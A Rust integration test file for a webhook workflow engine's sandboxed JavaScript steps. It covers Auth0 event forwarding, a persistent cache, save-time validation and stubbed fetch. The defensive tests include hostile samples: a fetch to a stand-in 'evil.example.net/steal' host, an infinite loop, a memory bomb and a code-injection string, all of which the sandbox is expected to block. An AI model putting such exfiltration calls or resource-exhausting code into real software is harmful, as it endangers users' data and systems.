//! JavaScript steps (`javascript@1.0.0`, Boa inside the component): an Auth0 Event Stream
//! Action pasted unchanged forwards an Auth0 CloudEvent with its secret header; `api.cache`
//! remembers across runs (and across processes on PostgreSQL); loops, memory bombs, throws and
//! refused hosts end the step as they should while other runs carry on; save-time checks name
//! `steps[i].input.code` with line and column; test runs stub `fetch`.

use crate::common::*;
use crate::receiver::Receiver;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

/// The Action from Auth0's Event Stream Actions documentation, unchanged.
const AUTH0_ACTION: &str = r#"/**
* Handler to be executed while processing events in an Event Stream.
* @param {Event} event - Details about the incoming event.
* @param {EventStreamAPI} api - Methods and utilities to define event stream processing.
*/
exports.onExecuteEventStream = async (event, api) => {
const message = event.message;
try {
await fetch(event.secrets.URL, {
method: 'POST',
headers: {
'X-API-Key': event.secrets.API_KEY,
},
body: JSON.stringify(message),
});
} catch (err) {
throw new Error('External service failure');
}
return;
};
"#;

fn auth0_event() -> Value {
    serde_json::from_str(include_str!("../fixtures/auth0-cloudevent.json")).unwrap()
}

fn js_step(name: &str, code: &str) -> Value {
    json!({"name": name, "type": "action", "plugin": "javascript@1.0.0", "input": {"code": code}})
}

async fn dev_server() -> Server {
    Server::start_with(Options {
        hostile: false,
        env: vec![("HOOKFLOW_DEV_ALLOW_LOCAL_DESTINATIONS", "1".into())],
    })
    .await
}

async fn put_secret(server: &Server, name: &str, value: &str) {
    let status = server
        .admin(Method::PUT, &format!("/v1/secrets/{name}"))
        .json(&json!({"value": value}))
        .send()
        .await
        .unwrap()
        .status();
    assert!(status.is_success(), "put secret {name}: {status}");
}

#[tokio::test]
async fn the_auth0_action_pasted_unchanged_forwards_the_event_with_its_secret_header() {
    let server = dev_server().await;
    let receiver = Receiver::start().await;
    receiver.answer("/ingest", 200, "application/json", r#"{"ok": true}"#);
    put_secret(&server, "URL", &format!("{}/ingest", receiver.base)).await;
    put_secret(&server, "API_KEY", "k3y-value-9f8e7d").await;
    let mut forward = js_step("forward", AUTH0_ACTION);
    forward["secrets"] = json!(["URL", "API_KEY"]);
    forward["allowedHosts"] = json!([receiver.base]);
    let mut peek = js_step(
        "peek",
        "exports.handler = async (event, api) => {\n\
           console.log('type', event.message.type, {tenant: event.message.a0tenant});\n\
           return {key: event.secrets.API_KEY === undefined ? 'undefined' : 'set',\n\
                   url: typeof event.secrets.URL, region: event.configuration.region,\n\
                   id: crypto.randomUUID().length, b64: btoa('hi'), host: new URL(event.secrets.URL).pathname};\n\
         };",
    );
    peek["secrets"] = json!(["URL"]);
    peek["input"]["region"] = json!("eu");
    let id = server
        .create_flow(webhook_flow("auth0 action", json!([forward, peek])))
        .await;

    let run = server.run_flow(&id, &auth0_event()).await;
    assert_eq!(run["status"], "SUCCEEDED", "{run}");
    let seen = receiver.one("/ingest");
    assert_eq!(seen.method, "POST");
    assert_eq!(seen.headers["x-api-key"], "k3y-value-9f8e7d");
    assert_eq!(
        seen.json(),
        auth0_event(),
        "the CloudEvent reaches the service as Auth0 sent it"
    );
    let output = &step(&run, "peek")["output"];
    assert_eq!(
        output["key"], "undefined",
        "a secret not granted is undefined"
    );
    assert_eq!(output["url"], "string");
    assert_eq!(
        output["region"], "eu",
        "other inputs are event.configuration"
    );
    assert_eq!(output["id"], 36);
    assert_eq!(output["b64"], "aGk=");
    assert_eq!(output["host"], "/ingest");
    let logs = step(&run, "peek")["detail"]["logs"].to_string();
    assert!(logs.contains("type user.created"), "{logs}");
    assert!(
        !run.to_string().contains("k3y-value-9f8e7d"),
        "the secret never reaches the run record"
    );

    // A GitLab body arrives wrapped as a CloudEvent with its type.
    let mut wrapped = js_step(
        "wrapped",
        "exports.handler = async (event) => ({type: event.message.type, source: event.message.source, id: event.message.data.id});",
    );
    wrapped["name"] = json!("wrapped");
    let gitlab = server
        .create_flow(webhook_flow("gitlab", json!([wrapped])))
        .await;
    let fixture: Value =
        serde_json::from_str(include_str!("../fixtures/gitlab-audit-event.json")).unwrap();
    let body = &fixture["body"];
    let response = server
        .client
        .post(server.url(&format!("/v1/webhooks/{gitlab}")))
        .header("X-Gitlab-Audit-Event-Type", "repository_git_operation")
        .json(body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::ACCEPTED);
    let accepted: Value = response.json().await.unwrap();
    let run = server.wait_run(accepted["runId"].as_str().unwrap()).await;
    assert_eq!(run["status"], "SUCCEEDED", "{run}");
    let output = &step(&run, "wrapped")["output"];
    assert_eq!(output["source"], "gitlab");
    assert_eq!(output["type"], "repository_git_operation");
    assert_eq!(output["id"], "1");
}

#[tokio::test]
async fn refused_hosts_throws_and_retries_fail_the_step_as_auth0_would() {
    let server = dev_server().await;
    let receiver = Receiver::start().await;
    let refused = js_step(
        "refused",
        "exports.handler = async () => { const r = await fetch('https://evil.example.net/steal'); return r.status; };",
    );
    let mut throws = js_step(
        "throws",
        "exports.onExecuteEventStream = async (event, api) => { console.warn('attempt'); throw new Error('downstream said no'); };",
    );
    throws["retry"] = json!({"maxAttempts": 2, "initialBackoffMs": 10});
    let a = server
        .create_flow(webhook_flow("refused", json!([refused])))
        .await;
    let b = server
        .create_flow(webhook_flow("throws", json!([throws])))
        .await;

    let run = server.run_flow(&a, &json!({"action": "x"})).await;
    assert_eq!(run["status"], "FAILED", "{run}");
    let error = step(&run, "refused")["error"].as_str().unwrap().to_string();
    assert!(
        error.contains("evil.example.net"),
        "names the host: {error}"
    );

    let run = server.run_flow(&b, &json!({"action": "x"})).await;
    assert_eq!(run["status"], "FAILED", "{run}");
    let s = step(&run, "throws");
    let error = s["error"].as_str().unwrap();
    assert!(
        error.starts_with("downstream said no"),
        "the error's message, with where it was thrown: {error}"
    );
    assert_eq!(s["attempts"], 2, "the step's retry policy applies: {s}");
    assert!(receiver.seen().is_empty());
}

#[tokio::test]
async fn loops_and_memory_bombs_end_the_step_while_other_runs_carry_on() {
    let server = dev_server().await;
    let mut spin = js_step("spin", "exports.handler = async () => { while (true) {} };");
    spin["timeoutMs"] = json!(1000);
    let bomb = js_step(
        "bomb",
        "exports.handler = async () => { const a = []; while (true) { a.push('x'.repeat(1 << 20) + a.length); } };",
    );
    let spinning = server
        .create_flow(webhook_flow("spin", json!([spin])))
        .await;
    let bombing = server
        .create_flow(webhook_flow("bomb", json!([bomb])))
        .await;
    let healthy = server
        .create_flow(webhook_flow(
            "healthy",
            json!([js_step("ok", "exports.handler = async () => 'fine';")]),
        ))
        .await;

    let looping = server.trigger(&spinning, &json!({})).await;
    let other = server.run_flow(&healthy, &json!({})).await;
    assert_eq!(other["status"], "SUCCEEDED", "{other}");
    assert_eq!(step(&other, "ok")["output"], "fine");
    let run = server.wait_run(&looping).await;
    assert_eq!(run["status"], "TIMEOUT", "{run}");

    let run = server.run_flow(&bombing, &json!({})).await;
    assert_eq!(run["status"], "FAILED", "{run}");
    let error = step(&run, "bomb")["error"].as_str().unwrap().to_string();
    assert!(error.contains("memory limit"), "{error}");
}

#[tokio::test]
async fn code_is_checked_at_save_time_with_line_and_column() {
    let server = Server::start_with(Options::default()).await;
    for (code, expected) in [
        (
            "exports.handler = async (event) => {\n  const x = ;\n};",
            "SyntaxError at line 2",
        ),
        ("const f = () => 1;", "exports.onExecuteEventStream"),
        (
            "const axios = require('axios');\nexports.handler = async () => 1;",
            "require('axios') is not supported",
        ),
    ] {
        let r = server
            .admin(Method::POST, "/v1/flows")
            .json(&webhook_flow("bad js", json!([js_step("js", code)])))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let problem: Value = r.json().await.unwrap();
        let text = problem.to_string();
        assert!(text.contains("steps[0].input.code"), "{text}");
        assert!(text.contains(expected), "{text}");
    }
}

#[tokio::test]
async fn test_runs_stub_fetch_and_the_template_runs() {
    let server = dev_server().await;
    // The template's secrets, set as a user would before a test run; nothing is sent anyway.
    put_secret(&server, "URL", "https://siem.example.com/ingest").await;
    put_secret(&server, "API_KEY", "k").await;
    let id = flow_from_template(&server, "auth0-action-forwarder").await;
    let (status, trace) = test_run(&server, &id, json!({"payload": auth0_event()})).await;
    assert_eq!(status, StatusCode::OK);
    let s = step(&trace, "on-execute-event-stream");
    assert_eq!(s["status"], "SUCCEEDED", "{trace}");
    let logs = s["detail"]["logs"].to_string();
    assert!(logs.contains("fetch skipped in test run"), "{logs}");
    // Templates in the code are never rendered: event data cannot become code.
    let literal = server
        .create_flow(webhook_flow(
            "literal",
            json!([js_step(
                "js",
                "exports.handler = async () => '{{trigger.body.action}}';"
            )]),
        ))
        .await;
    let run = server
        .run_flow(&literal, &json!({"action": "'; while(true){}; '"}))
        .await;
    assert_eq!(step(&run, "js")["output"], "{{trigger.body.action}}");
}

const CACHE_CODE: &str = "exports.handler = async (event, api) => {\n\
  const seen = api.cache.get('last');\n\
  const write = api.cache.set('last', event.message.id, {ttl: 60000});\n\
  return {previous: seen ? seen.value : null, write: write.type, expires: write.record.expires_at > Date.now()};\n\
};";

#[tokio::test]
async fn the_cache_remembers_across_runs() {
    let server = dev_server().await;
    let id = server
        .create_flow(webhook_flow("cache", json!([js_step("js", CACHE_CODE)])))
        .await;
    let first = server.run_flow(&id, &json!({"id": "ev-1"})).await;
    let output = &step(&first, "js")["output"];
    assert_eq!(output["previous"], Value::Null, "{first}");
    assert_eq!(output["write"], "success");
    assert_eq!(output["expires"], true);
    let second = server.run_flow(&id, &json!({"id": "ev-2"})).await;
    assert_eq!(step(&second, "js")["output"]["previous"], "ev-1");
}

/// Two processes on one PostgreSQL database share the cache.
#[tokio::test]
async fn the_cache_is_shared_by_every_process_on_postgres() {
    let database = TestDatabase::create();
    let a = database.start_server(&[]).await;
    let b = database.start_server(&[]).await;
    let id = a
        .create_flow(webhook_flow("cache", json!([js_step("js", CACHE_CODE)])))
        .await;
    let first = a.run_flow(&id, &json!({"id": "ev-a"})).await;
    assert_eq!(first["status"], "SUCCEEDED", "{first}");
    // `/sync` runs the run in the process that received it: B reads what A wrote. B may take a
    // moment to know the new flow.
    let deadline = Instant::now() + Duration::from_secs(10);
    let second = loop {
        let r = b
            .client
            .post(b.url(&format!("/v1/webhooks/{id}/sync")))
            .json(&json!({"id": "ev-b"}))
            .send()
            .await
            .unwrap();
        if r.status() == StatusCode::OK {
            let summary: Value = r.json().await.unwrap();
            break b.get_run(summary["id"].as_str().expect("run id")).await;
        }
        assert!(
            Instant::now() < deadline,
            "B never ran the event: {}",
            r.status()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert_eq!(
        step(&second, "js")["output"]["previous"],
        "ev-a",
        "{second}"
    );
}

/// `hookflow flow validate` and `flow run` work with JavaScript steps, locally.
#[test]
fn the_cli_validates_and_runs_javascript_steps_locally() {
    let dir = tempfile::tempdir().unwrap();
    let flow = dir.path().join("flow.yaml");
    let payload = dir.path().join("event.json");
    std::fs::write(
        &flow,
        "name: local js\ntrigger: {type: webhook}\nsteps:\n  - name: js\n    type: action\n    plugin: javascript@1.0.0\n    input:\n      code: |\n        exports.handler = async (event, api) => {\n          console.log('seen', event.message.type);\n          api.cache.set('k', 'v');\n          return {type: event.message.type, cached: api.cache.get('k').value};\n        };\n",
    )
    .unwrap();
    std::fs::write(&payload, include_str!("../fixtures/auth0-cloudevent.json")).unwrap();
    let cli = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_hookflow"))
            .args(args)
            .env("NO_COLOR", "1")
            // The compiled-plugin cache the test servers share: compiling is the slow part.
            .env(
                "HOOKFLOW_CACHE_DIR",
                concat!(env!("CARGO_TARGET_TMPDIR"), "/plugin-cache"),
            )
            .output()
            .unwrap()
    };
    let o = cli(&["flow", "validate", flow.to_str().unwrap()]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let o = cli(&[
        "flow",
        "run",
        flow.to_str().unwrap(),
        "--payload",
        payload.to_str().unwrap(),
        "--json",
    ]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{out}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(
        out.contains("\"cached\": \"v\"") || out.contains("\"cached\":\"v\""),
        "{out}"
    );
    assert!(out.contains("user.created"), "{out}");

    std::fs::write(
        &flow,
        "name: bad js\ntrigger: {type: webhook}\nsteps:\n  - name: js\n    type: action\n    plugin: javascript@1.0.0\n    input:\n      code: \"exports.handler = async () => {\"\n",
    )
    .unwrap();
    let o = cli(&["flow", "validate", flow.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("steps[0].input.code") && err.contains("SyntaxError at line 1"),
        "{err}"
    );
}
